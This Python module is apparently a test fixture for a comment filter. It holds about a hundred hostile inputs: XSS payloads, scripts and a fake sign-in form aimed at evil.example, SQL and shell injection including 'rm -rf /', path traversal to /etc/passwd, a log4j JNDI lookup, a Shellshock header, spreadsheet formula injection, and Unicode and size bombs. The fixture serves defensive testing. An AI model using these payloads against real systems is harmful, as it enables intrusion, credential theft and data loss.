"""A hundred comments of people who want something of ours to run, to break or to mislead.

Each sets ``window.hamgateCanary``, opens a dialog or asks for something of evil.example where it succeeds.
"""

from __future__ import annotations

from typing import NamedTuple

SET = "hamgateCanary=1"
CALL = f"window.{SET};alert(1)"
FAR = "https://evil.example/hamgate"
ZALGO = "".join(letter + "\u0300\u0316\u0336\u0353\u031b\u0489\u20dd" * 12 for letter in "he comes")


class Hostile(NamedTuple):
    """One comment: what it tries, and its fields beside those that all have."""

    name: str
    fields: dict[str, str]


def _text(name: str, text: str) -> Hostile:
    return Hostile(name, {"text": text})


_MARKUP = [
    ("a script", f"<script>{CALL}</script>"),
    ("a script in odd case with a slash", f"<ScRiPt/x>{CALL}</sCrIpT >"),
    ("a script from elsewhere", f'<script src="{FAR}.js"></script>'),
    ("a script that the filter's own removal would make", f"<scr<script>ipt>{CALL}</scr</script>ipt>"),
    ("a module", f'<script type="module">import "{FAR}.js"; {CALL}</script>'),
    ("an image that fails", f'<img src=x onerror="{CALL}">'),
    ("an image without quotes or spaces", f"<img/src=x/onerror={SET}>"),
    ("an image that counts readers", f'<img src="{FAR}.gif" width=1 height=1>'),
    ("a set of images", f'<img srcset="{FAR}.png 2x" alt="">'),
    ("a body with an event", f"<body onload='{CALL}'>"),
    ("an input that takes the focus", f'<input autofocus onfocus="{CALL}">'),
    ("a select that takes the focus", f"<select autofocus onfocus='{CALL}'><option>x</select>"),
    ("a details that opens", f'<details open ontoggle="{CALL}">x</details>'),
    ("a video", f'<video><source onerror="{CALL}"></video>'),
    ("an audio", f'<audio src=x onerror="{CALL}">'),
    ("a marquee", f'<marquee onstart="{CALL}">wide wide wide</marquee>'),
    ("an animation's end", f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart='{CALL}'>"),
    ("a popover", f"<button popovertarget=x>go</button><p id=x popover onbeforetoggle='{CALL}'>"),
    ("an iframe with a document", f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>'),
    ("an iframe from elsewhere", f'<iframe src="{FAR}"></iframe>'),
    ("an object", f'<object data="data:text/html,<script>{CALL}</script>"></object>'),
    ("an embed", f'<embed src="data:image/svg+xml,<svg onload={SET} xmlns=http://www.w3.org/2000/svg>">'),
    ("a base", f'<base href="{FAR}/">'),
    ("a refresh", f'<meta http-equiv="refresh" content="0;url={FAR}">'),
    ("a weaker policy", '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'),
    ("a style sheet", f'<link rel="stylesheet" href="{FAR}.css">'),
    ("a prefetch", f'<link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="{FAR}">'),
    ("a style", f"<style>@import '{FAR}.css'; * {{ display: none !important; }}</style>"),
    ("a style that covers the page", '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>'),
    ("a style with an expression", f"<p style=\"width:expression({CALL});background:url('{FAR}')\">x</p>"),
    ("an svg with an event", f'<svg onload="{CALL}"></svg>'),
    ("an svg with a script", f"<svg><script>{CALL}</script></svg>"),
    ("an svg that animates a link", f'<svg><a><animate attributeName=href values="javascript:{SET}"/>x</a></svg>'),
    ("an svg that uses another", f'<svg><use href="data:image/svg+xml,<svg id=x onload={SET}>#x"/></svg>'),
    ("an svg with html in it", f'<svg><foreignObject><body onload="{CALL}"></foreignObject></svg>'),
    ("math with a link", f'<math><maction xlink:href="javascript:{SET}">x</maction></math>'),
    ("math that confuses parsers", f"<math><mtext><table><mglyph><style><img src=x onerror='{SET}'>"),
    ("a namespace that confuses parsers", f"<svg></p><style><a id='</style><img src=x onerror={SET}>'>"),
    ("a template", f"<template><script>{CALL}</script></template>"),
    ("noscript", f"<noscript><p title='</noscript><img src=x onerror={SET}>'>"),
    ("the end of a textarea", f"</textarea><script>{CALL}</script>"),
    ("the end of a title", f"</title></head><script>{CALL}</script>"),
    ("the end of a style", f"</style><script>{CALL}</script>"),
    ("the end of a script", f"</script><script>{CALL}</script>"),
    ("the end of a comment", f"--><script>{CALL}</script><!--"),
    ("the end of a comment, badly", f"--!><script>{CALL}</script><!--"),
    ("the end of all", f"</div></li></ol></section></main></body></html><script>{CALL}</script>"),
    ("the end of an attribute", f'"><img src=x onerror="{CALL}">'),
    ("the end of a single-quoted attribute", f"'><img src=x onerror='{CALL}'>"),
    ("an attribute without quotes", f" onmouseover={SET} autofocus onfocus={SET} x="),
    ("a backtick", f"`><img src=x onerror={SET}>"),
    ("cdata", f"<![CDATA[<script>{CALL}</script>]]>"),
    ("an instruction", f"<?xml-stylesheet href='{FAR}.xsl'?><?php {CALL} ?>"),
    ("a doctype with an entity", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{FAR}'>]><x>&e;</x>"),
    ("a form", f"<form action='{FAR}'><input name=password><button>Sign in again</button></form>"),
    ("a form around ours", f"</form><form id=stolen action='{FAR}' method=post>"),
    ("the names of our elements", '<a id="content"></a><form id="comments" name="forms"><input name="action"></form>'),
    ("a link with a script", f'<a href="javascript:{SET}">Nice site</a>'),
    ("a link with a script and tabs", f'<a href="jav&#x09;ascript:{SET}">Nice site</a>'),
    ("a link with data", f'<a href="data:text/html,<script>{CALL}</script>">Nice site</a>'),
    ("a link with entities", f"<a href=&#106;avascript&colon;{SET}>Nice site</a>"),
    ("BBCode with a script", f"[url=javascript:{SET}]nice[/url] [img]{FAR}.png[/img]"),
    ("Markdown with a script", f"[nice](javascript:{SET}) ![x]({FAR}.png)"),
    ("encoded twice", f"&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;img src=x onerror={SET}&amp;gt;"),
    ("encoded as UTF-7", "+ADw-script+AD4-hamgateCanary=1+ADw-/script+AD4-"),
    ("full-width brackets", f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e"),
    ("overlong brackets, as they arrive", "\ufffd\ufffdscript\ufffd\ufffd %c0%bcscript%c0%be"),
]
_LANGUAGES = [
    ("a Jinja expression", "{{ 7*7 }}{{ config.items() }}{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("a Jinja statement", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}"),
    ("other templates", "${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) [[7*7]] {{constructor.constructor('alert(1)')()}}"),
    ("a format string", "%s%s%s%n %(password)s {0.__class__} {password!r}"),
    ("SQL", "'; DROP TABLE labels; -- \" OR 1=1) UNION SELECT * FROM accounts"),
    ("a path", "../../../../etc/passwd\x00.html file:///etc/passwd \\\\evil.example\\share"),
    ("a shell", "$(touch /tmp/x) `id` ; rm -rf / | cat"),
    ("a formula", f'=cmd|"/c calc"!A1\n=HYPERLINK("{FAR}","click")'),
    ("a formula with a plus", "+1+cmd|' /C calc'!A0"),
    ("a formula with an at sign", f'@SUM(1+1)*IMPORTXML("{FAR}","//a")'),
    ("a formula after a tab", '\t=1+1\r\n-2+3","=4+5'),
    ("a log4j lookup", "${jndi:ldap://evil.example/x}"),
    ("JSON", '"}]},"label":"ham","decision":"allow","x":[{"a":"\u2028\u2029'),
    ("XML", "]]></wp:comment_content></item><item><wp:comment_approved>1</wp:comment_approved><![CDATA["),
    ("a line of JSON Lines", 'x\n{"text": "injected", "label": "ham"}\n'),
    ("a header", f"x\r\nSet-Cookie: a=b\r\nLocation: {FAR}\r\n\r\n<script>{CALL}</script>"),
    ("a line of a log", 'x\n{"level":"error","message":"forged"}\n127.0.0.1 - - "GET / HTTP/1.1" 200'),
    (
        "terminal escapes",
        "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b31m\x1bP\x07",
    ),
    ("terminal games", "visible\rhidden\x08\x08\x08\x7f\x0c\x0b\x1b[1A\x1b[2K"),
]
_LETTERS = [
    ("a word of 100,000 letters", "W" * 100_000),
    ("60,000 letters that don't break", "\u2060".join("W" * 30_000)),
    ("40,000 hard spaces", "x" + "\u00a0" * 40_000 + "x"),
    ("50,000 new lines", "top" + "\n" * 50_000 + "bottom"),
    ("zalgo", ZALGO * 20),
    ("a tower of marks", "a" + "\u0301" * 20_000),
    ("letters from right to left", "\u202egnp.exe\u202c \u2067abc\u2066 not closed \u202e\u202d\u202e"),
    ("embeddings 3,000 deep", "\u202b\u202a" * 1_500 + "deep"),
    ("invisible letters", "buy\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\U000e0062\U000e0075 now" * 200),
    ("NUL and other controls", "a\x00b\x01\x02\x1f\x7f\x80\x9f\ufffe\uffff\U0010ffff"),
    ("halves of emoji", "cut \ud83d here \udc00 and \ud83d\ud83d"),
    ("a flood of emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3ff" * 2_500),
    ("one emoji of 5,000 parts", "\u200d".join("\U0001f468" for _ in range(5_000))),
    ("very wide letters", "\ufdfd\u2e3b\U0001242b\ua9c5" * 500),
    (
        "Arabic, Thai and Chinese without a space",
        "\u0645\u0631\u062d\u0628\u0627" * 2_000 + "\u0e01\u0e33\u0e49" * 2_000 + "漢" * 5_000,
    ),
    ("HTML 10,000 deep", "<div>" * 10_000 + "<b>x" + "</div>" * 10_000),
    ("a table 3,000 deep", "<table><tr><td>" * 3_000),
    ("10,000 links", "http://a.example/x " * 10_000),
]
_FIELDS = [
    ("author", f"<script>{CALL}</script>"),
    ("author", f'"><img src=x onerror="{CALL}">'),
    ("author", "\u202e\u0645\u062f\u064a\u0631 rotaredoM\u202c"),
    ("author", "W" * 100_000),
    ("author", ZALGO),
    ("author", "=cmd|'/c calc'!A1"),
    ("author", "Ann\r\nX-Injected: 1\x1b[31m"),
    ("author", "{{ 7*7 }}${7*7}<%= 7*7 %>"),
    ("author_url", f"javascript:{SET}"),
    ("author_url", f"data:text/html,<script>{CALL}</script>"),
    ("author_url", f'https://evil.example/"onmouseover="{SET}'),
    ("author_url", f"\x01 java\tscript:{SET}//https://example.org"),
    ("author_url", "https://" + "a." * 40_000 + "example"),
    ("author_url", "http://[::1]]]:99999999/%%%\x00"),
    ("author_email", f'"<script>{CALL}</script>"@evil.example'),
    ("author_email", "a@b.example\r\nBcc: all@evil.example"),
    ("author_email", "x" * 60_000 + "@" + "y" * 40_000),
    ("user_ip", f"127.0.0.1<img src=x onerror={SET}>"),
    ("user_ip", "999.999.999.999/-1, ::ffff:%00"),
    ("user_agent", f"Mozilla/5.0 <svg onload={SET}>"),
    ("user_agent", "() { :;}; /bin/sh -c id \x1b]0;owned\x07"),
    ("referrer", f"javascript:{SET}"),
    ("permalink", f"javascript:{SET}//"),
    ("permalink", f'https://blog.example/?"><script>{CALL}</script>'),
    ("permalink", "https://blog.example/" + "w" * 100_000),
    ("post_title", f"</title><script>{CALL}</script>"),
    ("post_title", "T" * 100_000),
    ("post_text", f"<style>*{{display:none}}</style><img src=x onerror={SET}>"),
    ("parent_text", f"<iframe src='javascript:parent.{SET}'></iframe>"),
    ("type", f"comment' onclick='{SET}"),
    ("lang", f'en" onload="{SET}'),
    ("date", f"<b>2026</b>-13-99T99:99:99Z{{{{ 7*7 }}}}<script>{CALL}</script>"),
    ("honeypot", f"<img src=x onerror={SET}>"),
]
HOSTILE: list[Hostile] = [
    *(_text(name, text) for name, text in (*_MARKUP, *_LANGUAGES, *_LETTERS)),
    *(
        Hostile(f"{field}: {value[:24]!r}", {"text": "What do you think of this?", field: value})
        for field, value in _FIELDS
    ),
]
